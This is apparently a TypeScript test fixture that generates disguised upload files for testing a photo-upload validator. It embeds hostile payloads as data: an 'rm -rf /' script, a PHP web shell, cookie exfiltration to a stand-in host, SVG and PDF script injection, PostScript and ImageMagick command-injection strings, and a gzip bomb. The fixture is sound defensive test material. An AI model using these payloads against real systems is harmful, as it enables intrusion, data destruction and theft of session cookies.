import { gzipSync } from 'node:zlib';
import { pngSignature } from '@afterglow/test-kit/images';
import type { HostileFile } from './hostile-file.ts';

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
const container = (brand: string): Buffer => latin(`\0\0\0\x18ftyp${brand}\0\0\0\0mif1${brand}${'\0'.repeat(80)}`);

const contents: Readonly<Record<string, Buffer>> = {
  page: latin('<!doctype html><html><script>alert(1)</script></html>'),
  drawing: latin('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  script: latin('#!/bin/sh\nrm -rf /\n'),
  php: latin('<?php system($_GET["c"]); ?>'),
  javascript: latin('fetch("https://elsewhere.example/?" + document.cookie)'),
  json: latin('{"photos": []}'),
  letter: latin('Dear Ruth, these are my photos.'),
  'windows program': latin(`MZ\x90\0\x03\0\0\0${'\0'.repeat(200)}PE\0\0`),
  'linux program': latin(`\x7fELF\x02\x01\x01${'\0'.repeat(200)}`),
  'java class': latin('\xca\xfe\xba\xbe\0\0\x004'),
  webassembly: latin('\0asm\x01\0\0\0'),
  pdf: latin('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  postscript: latin('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file'),
  'mvg drawing': latin("push graphic-context\nviewbox 0 0 9 9\nfill 'url(https://127.0.0.1/|id)'"),
  gif: Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'),
  bmp: latin(`BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x02\0\0\0\x02\0\0\0\x01\0\x18\0${'\0'.repeat(40)}`),
  'intel tiff': latin(`II*\0\x08\0\0\0\0\0${'\0'.repeat(40)}`),
  'motorola tiff': latin(`MM\0*\0\0\0\x08\0\0${'\0'.repeat(40)}`),
  icon: latin(`\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0${'\0'.repeat(40)}`),
  photoshop: latin(`8BPS\0\x01${'\0'.repeat(40)}`),
  'jpeg 2000': latin(`\0\0\0\x0cjP  \r\n\x87\n${'\0'.repeat(40)}`),
  'jpeg xl': latin(`\0\0\0\x0cJXL \r\n\x87\n${'\0'.repeat(40)}`),
  'bare jpeg xl': latin(`\xff\x0a${'\0'.repeat(40)}`),
  heic: container('heic'),
  'hevc sequence': container('hevc'),
  avif: container('avif'),
  video: latin(`\0\0\0\x18ftypisom\0\0\x02\0isomiso2${'\0'.repeat(80)}`),
  sound: latin(`RIFF\x24\0\0\0WAVEfmt \x10\0\0\0${'\0'.repeat(40)}`),
  zip: latin(`PK\x03\x04\x14\0\0\0\0\0${'\0'.repeat(40)}`),
  gzip: gzipSync(Buffer.alloc(1_000_000)),
  'raw photo': latin(`FUJIFILMCCD-RAW 0201${'\0'.repeat(80)}`),
};

const disguises = [
  ['photo.jpg', 'image/jpeg'],
  ['photo.png', 'image/png'],
  ['photo.webp', 'image/webp'],
  ['photo', 'application/octet-stream'],
  ['photo.jpg.exe', 'application/x-msdownload'],
] as const;

const beginnings: Readonly<Record<string, Buffer>> = {
  jpeg: latin('\xff\xd8\xff'),
  'jpeg with jfif': latin('\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0'),
  png: pngSignature,
  webp: latin('RIFF\xff\0\0\0WEBP'),
};

const stumps: readonly HostileFile[] = [
  { what: 'nothing', name: 'empty.jpg', bytes: Buffer.alloc(0) },
  ...Object.entries(beginnings).flatMap(([kind, beginning]) =>
    Array.from({ length: beginning.length }, (_, index) => ({
      what: `${index + 1} bytes of a ${kind}`,
      name: 'stump.jpg',
      bytes: beginning.subarray(0, index + 1),
    })),
  ),
  ...[1, 100, 1_000_000].map((size) => ({ what: `${size} zeros`, name: 'zeros.jpg', bytes: Buffer.alloc(size) })),
];

/** Other file types with a photo's name and type, and with the first bytes of a photo. */
export const disguisedFiles = (): HostileFile[] => [
  ...stumps,
  ...Object.entries(contents).flatMap(([what, bytes]) => [
    ...disguises.map(([name, type]) => ({ what: `${what} as ${name}`, name, type, bytes })),
    ...Object.entries(beginnings).map(([kind, beginning]) => ({
      what: `${what} behind the beginning of a ${kind}`,
      name: 'photo.jpg',
      bytes: Buffer.concat([beginning, bytes]),
    })),
  ]),
];
